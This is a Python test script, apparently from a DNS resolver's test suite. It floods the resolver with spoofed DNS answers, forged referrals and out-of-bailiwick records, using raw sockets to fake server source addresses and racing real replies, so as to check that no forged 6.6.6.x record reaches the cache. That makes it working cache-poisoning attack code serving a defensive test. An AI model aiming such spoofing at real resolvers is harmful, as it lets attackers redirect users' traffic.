#!/usr/bin/env python3
"""Forged-response flooder for the spoofing test (run inside the test's
network namespace, as root).

Two attackers run side by side until --duration seconds pass:

- blind: sprays forged answers (random IDs, bulk names with 6.6.6.x
  addresses, forged referrals with 6.6.6.53 glue) at the resolver's UDP
  ports found with `ss` (--pid) and at random ports of the ephemeral range,
  to 127.0.0.1 and the hierarchy's addresses, from the spoofed addresses of
  the real servers (port 53), from wrong source ports and from 127.0.0.1.
- racer: watches the resolver's queries on lo and answers each at once,
  before the real server: with wrong IDs (right port, question and source),
  with the right ID but another question, with the right ID to a wrong port,
  and -- for bulk A queries -- with the right ID and question, the true
  address, and out-of-bailiwick records (www.dom1.boltnet A 6.6.6.1, a
  forged NS for boltnet with glue 6.6.6.53, www.dom2.boltorg A 6.6.6.2).

No record with a 6.6.6.x address may ever reach the resolver's cache. Prints
"kind count" lines of what it sent, and "total N".
"""
import argparse
import random
import re
import socket
import struct
import subprocess
import threading
import time

SERVERS = ['198.18.1.1', '198.18.1.2', '198.18.1.10', '198.18.1.11',
           '198.18.1.20', '198.18.1.21', '198.18.1.22']
counts = {}
lock = threading.Lock()


def count(kind, n=1):
    with lock:
        counts[kind] = counts.get(kind, 0) + n


def name_wire(name):
    out = b''
    for label in name.rstrip('.').split('.'):
        if label:
            out += bytes([len(label)]) + label.encode()
    return out + b'\0'


def rr(name, rtype, rdata, ttl=86400):
    return name_wire(name) + struct.pack('!HHIH', rtype, 1, ttl, len(rdata)) + rdata


def a_rr(name, addr):
    return rr(name, 1, socket.inet_aton(addr))


def response(qid, qwire, qtype, answers=(), authority=(), additional=(), aa=True, rcode=0):
    flags = 0x8000 | (0x0400 if aa else 0) | 0x0100 | rcode
    hdr = struct.pack('!HHHHHH', qid, flags, 1, len(answers), len(authority), len(additional))
    return (hdr + qwire + struct.pack('!HH', qtype, 1) + b''.join(answers)
            + b''.join(authority) + b''.join(additional))


def ip_udp(src, sport, dst, dport, payload):
    ulen = 8 + len(payload)
    udp = struct.pack('!HHHH', sport, dport, ulen, 0)  # checksum 0: none (IPv4)
    iph = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + ulen, random.randrange(65536), 0, 64, 17, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return iph + udp + payload


class Sender:
    def __init__(self):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, kind, src, sport, dst, dport, payload):
        try:
            self.s.sendto(ip_udp(src, sport, dst, dport, payload), (dst, 0))
            count(kind)
        except OSError:
            count('send_error')


def forged_answer(qid, name, n):
    """A forged authoritative answer: NAME A 6.6.6.N."""
    qw = name_wire(name)
    return response(qid, qw, 1, answers=[a_rr(name, '6.6.6.%d' % (n % 250 + 1))])


def forged_referral(qid, qname, qtype):
    """A forged referral of bulk.boltnet to a server at 6.6.6.53."""
    qw = name_wire(qname)
    return response(qid, qw, qtype, aa=False,
                    authority=[rr('bulk.boltnet', 2, name_wire('ns.forged.boltnet'))],
                    additional=[a_rr('ns.forged.boltnet', '6.6.6.53')])


def cp_ports(pid):
    try:
        out = subprocess.run(['ss', '-uanpH'], capture_output=True, text=True, timeout=2).stdout
    except (OSError, subprocess.SubprocessError):
        return []
    ports = []
    for line in out.splitlines():
        if 'pid=%d,' % pid in line:
            m = re.search(r':(\d+)\s', line.split(None, 4)[3] + ' ')
            if m:
                ports.append(int(m.group(1)))
    return ports


def blind(args, stop):
    tx = Sender()
    dsts = ['127.0.0.1'] + SERVERS
    while not stop.is_set():
        ports = cp_ports(args.pid) if args.pid else []
        targets = ports + [random.randint(32768, 60999) for _ in range(64)]
        for port in targets:
            n = random.randint(args.first, args.last)
            name = 'h%04d.bulk.boltnet' % n
            qid = random.randrange(65536)
            dst = random.choice(dsts)
            pkt = forged_answer(qid, name, n)
            tx.send('blind_spoofed_server', random.choice(SERVERS), 53, dst, port, pkt)
            tx.send('blind_wrong_sport', '198.18.1.20', random.choice([5353, 54, 1053]), dst, port, pkt)
            tx.send('blind_wrong_addr', '127.0.0.1', 53, dst, port, pkt)
            tx.send('blind_referral', random.choice(SERVERS[:4]), 53, dst, port,
                    forged_referral(qid, random.choice(['bulk.boltnet', name]), 1))
        if stop.wait(0.002):
            break


def parse_query(udp_payload):
    """(id, qname lower, qtype, raw question wire incl. case) or None."""
    if len(udp_payload) < 17:
        return None
    qid, flags, qd = struct.unpack('!HHH', udp_payload[:6])
    if flags & 0x8000 or qd != 1:
        return None
    off, labels = 12, []
    while off < len(udp_payload):
        ln = udp_payload[off]
        if ln == 0 or ln > 63:
            break
        labels.append(udp_payload[off + 1:off + 1 + ln].decode('latin-1'))
        off += 1 + ln
    if off + 5 > len(udp_payload):
        return None
    qwire = udp_payload[12:off + 1]
    qtype = struct.unpack('!H', udp_payload[off + 1:off + 3])[0]
    return qid, '.'.join(labels), qtype, qwire


def racer(args, stop):
    tx = Sender()
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    sniff.bind(('lo', 0))
    sniff.settimeout(0.2)
    bulk = re.compile(r'^h(\d{4})\.bulk\.boltnet$', re.I)
    while not stop.is_set():
        try:
            frame, addr = sniff.recvfrom(65535)
        except socket.timeout:
            continue
        if addr[2] != socket.PACKET_HOST or len(frame) < 14 + 28:
            continue
        ip = frame[14:]
        if ip[0] >> 4 != 4 or ip[9] != 17:
            continue
        ihl = (ip[0] & 0xF) * 4
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        sport, dport = struct.unpack('!HH', ip[ihl:ihl + 4])
        if dport != 53 or dst not in SERVERS:
            continue
        q = parse_query(ip[ihl + 8:])
        if q is None:
            continue
        qid, qname, qtype, qwire = q
        count('queries_seen')
        # Wrong IDs, everything else right.
        for _ in range(args.race_ids):
            wid = (qid + random.randint(1, 65535)) % 65536
            m = bulk.match(qname)
            n = int(m.group(1)) if m else random.randint(1, 250)
            pkt = response(wid, qwire, qtype, answers=[rr(qname, 1, socket.inet_aton('6.6.6.%d' % (n % 250 + 1)))]
                           if qtype == 1 else [], authority=[rr('bulk.boltnet', 2, name_wire('ns.forged.boltnet'))],
                           additional=[a_rr('ns.forged.boltnet', '6.6.6.53')])
            tx.send('race_wrong_id', dst, 53, src, sport, pkt)
        # Right ID, another question.
        other = qname.lower()
        while other == qname.lower():  # the same question would be a perfect forgery
            other = 'h%04d.bulk.boltnet' % random.randint(1, 2000)
        tx.send('race_wrong_question', dst, 53, src, sport, forged_answer(qid, other, 7))
        # Right ID and question, wrong port.
        tx.send('race_wrong_port', dst, 53, src, sport ^ 1, response(
            qid, qwire, qtype, answers=[rr(qname, 1, socket.inet_aton('6.6.6.9'))] if qtype == 1 else []))
        # Right everything for a bulk A query: true answer plus out-of-bailiwick poison.
        m = bulk.match(qname)
        if m and qtype == 1 and dst == '198.18.1.20':
            v = 128 * 256 + int(m.group(1))
            true = '198.19.%d.%d' % (v // 256, v % 256)
            pkt = response(qid, qwire, qtype,
                           answers=[rr(qname, 1, socket.inet_aton(true)), a_rr('www.dom1.boltnet', '6.6.6.1')],
                           authority=[rr('boltnet', 2, name_wire('ns.forged.boltnet'))],
                           additional=[a_rr('ns.forged.boltnet', '6.6.6.53'), a_rr('www.dom2.boltorg', '6.6.6.2')])
            tx.send('race_out_of_bailiwick', dst, 53, src, sport, pkt)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--pid', type=int, default=0, help='boltdns-cp pid (for ss)')
    ap.add_argument('--duration', type=float, default=20)
    ap.add_argument('--first', type=int, default=1)
    ap.add_argument('--last', type=int, default=2000)
    ap.add_argument('--race-ids', type=int, default=8, help='wrong-ID answers per query seen')
    ap.add_argument('--ready', help='file to create once sniffing')
    args = ap.parse_args()
    stop = threading.Event()
    threads = [threading.Thread(target=racer, args=(args, stop), daemon=True),
               threading.Thread(target=blind, args=(args, stop), daemon=True)]
    for t in threads:
        t.start()
    if args.ready:
        time.sleep(0.3)
        open(args.ready, 'w').close()
    try:
        time.sleep(args.duration)
    except KeyboardInterrupt:
        pass
    stop.set()
    for t in threads:
        t.join(timeout=2)
    total = 0
    for k in sorted(counts):
        print(k, counts[k])
        if k not in ('queries_seen', 'send_error'):
            total += counts[k]
    print('total', total)


if __name__ == '__main__':
    main()
